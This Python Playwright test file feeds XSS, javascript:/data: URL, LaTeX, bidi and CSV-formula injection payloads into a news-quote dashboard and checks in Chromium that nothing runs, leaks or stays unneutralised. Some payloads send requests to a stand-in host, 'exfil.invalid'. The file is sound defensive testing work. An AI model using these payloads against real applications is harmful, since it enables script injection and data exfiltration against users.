"""Untrusted text stays inert in the real browser: a store built by the pipeline from articles whose
titles, outlets, quotes, speakers and URLs carry HTML, script, ``javascript:``/``data:`` links,
Markdown and LaTeX injection, formulas and bidi controls is walked page by page in Debian Chromium.
Nothing may run (no dialog), nothing may be fetched from another host, every link is http(s), no
injected element or interpreted Markdown exists, and every exported CSV is neutralised.

The actor dictionary is not user-suppliable (``data/actors.yaml`` is part of the project, with no
setting or upload to replace it), so actor names are not among the hostile fields."""

import json
from urllib.parse import urlparse

import browser_support as b
import pandas as pd
import pytest
from playwright.sync_api import expect, sync_playwright

from pipeline.dashboard import urlstate as url
from pipeline.run import run

MARK = "INJECTED"
"""Every payload names MARK, so that any element or request it creates can be found."""
EXFIL_HOST = "exfil.invalid"
PAYLOADS = [
    f"<script>alert('{MARK}-script')</script>",
    f"<img src=x onerror=alert('{MARK}-img')>",
    f"<svg onload=alert('{MARK}-svg')></svg>",
    f"<img src='http://{EXFIL_HOST}/{MARK}.png'>",
    f"[{MARK}LINK](javascript:alert('{MARK}-mdlink'))",
    f"[{MARK}DATA](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"![{MARK}IMG](http://{EXFIL_HOST}/{MARK}-md.png)",
    f"$\\href{{javascript:alert('{MARK}-latex')}}{{{MARK}TEX}}$",
    f"**{MARK}BOLD** _{MARK}EM_",
    f"\u202e{MARK}exe.txt\u202c \u2067{MARK}\u2069",
    f'=HYPERLINK("http://{EXFIL_HOST}/{MARK}","{MARK}")',
    f"+{MARK}+1",
    f"-{MARK}-1",
    f"@SUM({MARK})",
]
URLS = [
    "javascript:alert('{mark}-url-{number}')",
    "JaVaScRiPt:alert('{mark}-url-{number}')",
    " javascript:alert('{mark}-url-{number}')",
    "data:text/html,<script>alert('{mark}-url-{number}')</script>",
    "vbscript:msgbox('{mark}-{number}')",
    "http://" + EXFIL_HOST + "/{mark}-article-{number}",
]
"""Article URLs (``{mark}`` and ``{number}`` filled in: the store keeps one article per URL)."""
LATEX = PAYLOADS[7]
PAIR = "RUS>USA"
MONTHS = pd.date_range("2024-01-01", periods=12, freq="MS")
NOVEMBER = "2024-11-01"
"""The month whose newest article quotes the LaTeX payload and whose other one has the formula outlet."""
SEARCH_WORD = "sanctions"
"""A word of every negative quote: the Quotes search for it finds hostile rows."""


def hostile_articles() -> list[dict]:
    """Two RUS>USA quotes a month for a year (welcoming for six months, then condemning, so that
    Shifts finds a change), each carrying a payload in its title, outlet, quote, speaker and URL."""
    articles = []
    for month_index, month in enumerate(MONTHS):
        for slot in range(2):
            number = 2 * month_index + slot
            payload = PAYLOADS[number % len(PAYLOADS)]
            text = (
                f'"We welcome the proposal {payload} from Washington," the Kremlin spokesman Dmitry Peskov said.'
                if month_index < 6
                else f'"We condemn the {SEARCH_WORD} {payload} imposed by Washington," '
                f"said the Russian ambassador {payload} Ivanov."
            )
            articles.append(
                {
                    "article_id": f"hostile-{number}",
                    "date": (month + pd.Timedelta(days=3 + 9 * slot)).strftime("%Y-%m-%dT12:00:00Z"),
                    "title": f"{payload} title {number}",
                    "text": text,
                    "source": f"{PAYLOADS[(number + 3) % len(PAYLOADS)]} Wire",
                    "url": URLS[number % len(URLS)].format(mark=MARK, number=number),
                }
            )
    return articles


REJECTED = {
    "article_id": PAYLOADS[10], "title": PAYLOADS[0], "text": PAYLOADS[4], "source": PAYLOADS[1], "date": "soon",
}
"""A record the pipeline rejects (its date is not a date), so that the Data page lists hostile fields."""


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    source = folder / "hostile.jsonl"
    source.write_text("".join(json.dumps(record) + "\n" for record in [*hostile_articles(), REJECTED]), "utf-8")
    report = run([source], folder / "store")
    assert report.rejected == 1, report.rejections.to_string()
    assert report.counts["dyads"] >= len(MONTHS), report.counts
    return folder / "store"


@pytest.fixture(scope="module")
def app(store) -> str:
    with b.streamlit_server(store, b.ARTIFACTS / "streamlit-hostile-tests.log") as base:
        yield base


@pytest.fixture(scope="module")
def browser():
    if not b.CHROMIUM.exists():
        pytest.skip(f"{b.CHROMIUM} is absent: install Debian's chromium package to run the browser tests")
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=str(b.CHROMIUM), args=b.CHROMIUM_ARGS, headless=True)
        yield chromium
        chromium.close()


INERT_ATTRIBUTES = {"title", "aria-label", "value", "placeholder"}
"""Attributes that may hold untrusted text (the outlet tags name their outlet in them): never run."""
PROBE = """(args) => {
    const [mark, inert] = args;
    const found = {handlers: [], attributes: [], links: [], sources: [], formatted: [], katex: 0};
    for (const el of document.querySelectorAll('*')) {
        for (const attr of el.attributes) {
            if (/^on/i.test(attr.name)) found.handlers.push(`${el.tagName} ${attr.name}`);
            if (attr.value.includes(mark) && !inert.includes(attr.name))
                found.attributes.push(`${el.tagName} ${attr.name}=${attr.value.slice(0, 120)}`);
        }
    }
    for (const el of document.querySelectorAll('a, area'))
        found.links.push(el.getAttribute('href') ?? el.getAttribute('xlink:href') ?? '');
    for (const el of document.querySelectorAll('iframe, object, embed, img, video, audio, source, form, base'))
        found.sources.push(['src', 'data', 'action'].map(name => el.getAttribute(name) ?? '').join(' '));
    const formatting = 'strong, em, b, i, u, s, del, mark, a, img, svg, iframe, script, style, h1, h2, h3, h4, h5, h6, '
        + 'blockquote, li, .katex';
    for (const el of document.querySelectorAll(formatting))
        if (el.textContent.includes(mark)) found.formatted.push(`${el.tagName} ${el.textContent.slice(0, 120)}`);
    found.katex = document.querySelectorAll('.katex').length;
    return found;
}"""
"""What injected text would leave in the DOM: event-handler attributes, untrusted text in attributes
that can act (src, href, style …), every link, every embedding element, untrusted text inside
formatting elements (interpreted Markdown or HTML) and any KaTeX (interpreted LaTeX)."""


class Guard:
    """Records what the page does that injected text could cause: dialogs (alert, confirm, print…),
    requests and websockets to other hosts, uncaught script errors and console errors."""

    def __init__(self, context, app: str):
        self.origin = urlparse(app).netloc
        self.dialogs: list[str] = []
        self.foreign: list[str] = []
        self.errors: list[str] = []
        context.on("request", self._request)
        context.on("response", self._response)
        context.on("page", self._watch)

    def _request(self, request) -> None:
        address = urlparse(request.url)
        if address.scheme in ("http", "https", "ws", "wss") and address.netloc != self.origin:
            self.foreign.append(request.url)

    def _response(self, response) -> None:
        if response.status >= 400 and not b.BASE_PATH_PROBE.search(urlparse(response.url).path):
            self.errors.append(f"{response.status} {response.url}")

    def _console(self, message) -> None:
        if message.type == "error" and not b.BASE_PATH_PROBE.search(urlparse(message.location.get("url", "")).path):
            self.errors.append(message.text)

    def _watch(self, page) -> None:
        page.on("dialog", lambda dialog: (self.dialogs.append(f"{dialog.type}: {dialog.message}"), dialog.dismiss()))
        page.on("websocket", lambda socket: self._request(socket))
        page.on("pageerror", lambda error: self.errors.append(str(error)))
        page.on("console", self._console)

    def assert_inert(self, page) -> None:
        """Nothing ran or left for another host, and the DOM holds nothing the injected text made."""
        assert (self.dialogs, self.foreign, self.errors) == ([], [], [])
        found = page.evaluate(PROBE, [MARK, sorted(INERT_ATTRIBUTES)])
        assert found["handlers"] == [] and found["attributes"] == [], found
        assert found["formatted"] == [] and found["katex"] == 0, found
        for link in found["links"]:
            assert link.startswith("#") or urlparse(link).scheme in ("http", "https") or not urlparse(link).scheme, link
            assert urlparse(link).netloc in ("", self.origin), link
        assert not any(MARK in source for source in found["sources"]), found["sources"]


@pytest.fixture
def guarded(browser, app, request):
    """A page in a fresh browser context under a :class:`Guard`; checked again when the test ends."""
    context = b.new_context(browser)
    guard = Guard(context, app)
    tab = context.new_page()
    yield tab, guard
    b.screenshot(tab, request.node.name, b.ARTIFACTS / "final")
    guard.assert_inert(tab)
    context.close()


def outlets() -> list[str]:
    """Every (hostile) outlet name of the stored articles."""
    return sorted({article["source"] for article in hostile_articles()})


def address(app: str, path: str = "/", **params) -> str:
    """The app URL of ``path`` with every hostile outlet chosen (all of them: the same data as none,
    but each name is drawn as a tag in the sidebar) and ``params``."""
    query = {url.PAIRS: [PAIR], url.OUTLETS: outlets(), **params}
    return f"{app}{path}{url.share_url('', query)}"


def expect_outlet_tags(page) -> None:
    """The sidebar shows every hostile outlet name verbatim, as text."""
    expect(b.widget(page, url.OUTLETS).locator("[data-tag]")).to_have_text(outlets())


def grid_text(page, key: str) -> str:
    """The visible cells of the dataframe with ``key`` (its accessibility table mirrors the canvas)."""
    return b.widget(page, key).get_by_test_id("stDataFrame").locator("table").inner_text()


def download_all(page) -> dict[str, list[dict[str, str]]]:
    """Rows of the CSV behind every visible CSV download button, by button key."""
    keys = page.locator("[data-testid='stDownloadButton']:visible").evaluate_all(
        "buttons => buttons.map(button => [...button.closest('[class*=st-key-]').classList]"
        ".find(name => name.startsWith('st-key-')).slice(7))"
    )
    return {key: b.download(page, key) for key in keys if key.endswith("_csv")}  # charts (SVG) are no tables


def assert_neutralised(exports: dict[str, list[dict[str, str]]], expected: set[str]) -> None:
    """The expected downloads were there and no cell of any of them would run as a formula."""
    assert expected <= set(exports), sorted(exports)
    for key, rows in exports.items():
        assert rows, key
        b.assert_no_formula_cells(rows)


def test_trends_drill_down_shows_hostile_text_as_text(guarded, app):
    page, guard = guarded
    b.open_app(page, address(app, point=[f"{PAIR}@{NOVEMBER}"]))
    expect_outlet_tags(page)
    formula_outlet = next(name for name in outlets() if name.startswith("="))
    assert formula_outlet in grid_text(page, "drill_table")
    b.select_row(page, "drill_table", 0)
    assert LATEX in page.get_by_test_id("stText").inner_text()
    guard.assert_inert(page)
    exports = download_all(page)
    assert_neutralised(exports, {"trend_csv", "drill_table_csv"})
    assert "'" + formula_outlet in {row["source"] for row in exports["drill_table_csv"]}


def test_pair_page_speakers_and_extremes(guarded, app):
    page, guard = guarded
    b.open_app(page, address(app, "/pair"))
    expect_outlet_tags(page)
    assert "**" + MARK + "BOLD**" in grid_text(page, "pair_negative") + grid_text(page, "pair_positive")
    guard.assert_inert(page)
    assert_neutralised(download_all(page), {"pair_series_csv", "pair_speakers_csv", "pair_positive_csv"})


def test_matrix_page(guarded, app):
    page, guard = guarded
    b.open_app(page, address(app, "/matrix"))
    expect_outlet_tags(page)
    b.chart(page, "matrix_chart")
    guard.assert_inert(page)
    assert_neutralised(download_all(page), {"matrix_csv"})


def test_shifts_page_and_the_quotes_around_a_shift(guarded, app):
    page, guard = guarded
    b.open_app(page, address(app, "/shifts"))
    expect_outlet_tags(page)
    page.get_by_test_id("stExpander").first.locator("summary").click()
    expect(page.get_by_test_id("stExpander").first.get_by_test_id("stDataFrame")).to_be_visible()
    guard.assert_inert(page)
    assert_neutralised(download_all(page), {"shifts_csv", "shift_quotes_0_csv"})


def test_quotes_search_with_hostile_words_and_with_a_match(guarded, app):
    page, guard = guarded
    b.open_app(page, address(app, "/quotes"))
    expect_outlet_tags(page)
    search = b.widget(page, url.SEARCH).locator("input")
    unmatched = f"**{MARK}NONE** [{MARK}X](javascript:alert(1)) <img src=x onerror=alert(1)>"
    for words in (unmatched, PAYLOADS[1], SEARCH_WORD):
        search.fill(words)
        with b.rerun(page):
            search.press("Enter")
        guard.assert_inert(page)
        if words == unmatched:
            assert unmatched in page.get_by_test_id("stAlertContentInfo").inner_text()
    assert "<img src=x onerror" in grid_text(page, "quotes_table")
    b.select_row(page, "quotes_table", 0)
    assert SEARCH_WORD in page.get_by_test_id("stText").inner_text()
    assert_neutralised(download_all(page), {"quotes_table_csv"})


def test_try_text_with_hostile_text(guarded, app):
    page, guard = guarded
    b.open_app(page, address(app, "/try_text"))
    text = " ".join(
        f'"We condemn the {SEARCH_WORD} {payload} imposed by Washington," said the Russian ambassador {payload} Ivanov.'
        for payload in PAYLOADS
    )
    b.widget(page, "try_text").locator("textarea").fill(text)
    with b.rerun(page):
        page.get_by_role("button", name="Analyse").click()
    counts = dict(zip(page.get_by_test_id("stMetricLabel").all_inner_texts(),
                      page.get_by_test_id("stMetricValue").all_inner_texts()))
    assert int(counts["Dyads"]) >= 1, counts
    guard.assert_inert(page)
    assert_neutralised(download_all(page), {"try_csv"})


def test_data_page_rejected_records_and_dictionary_search(guarded, app):
    page, guard = guarded
    b.open_app(page, address(app, "/data"))
    expect_outlet_tags(page)
    expect(page.get_by_test_id("stDataFrame").locator("table").filter(has_text=REJECTED["title"])).to_have_count(1)
    search = b.widget(page, "dictionary_search").locator("input")
    search.fill(PAYLOADS[4])
    with b.rerun(page):
        search.press("Enter")
    guard.assert_inert(page)
    exports = download_all(page)
    assert_neutralised(exports, {"rejected_csv"})
    assert "'" + REJECTED["article_id"] in {cell for row in exports["rejected_csv"] for cell in row.values()}
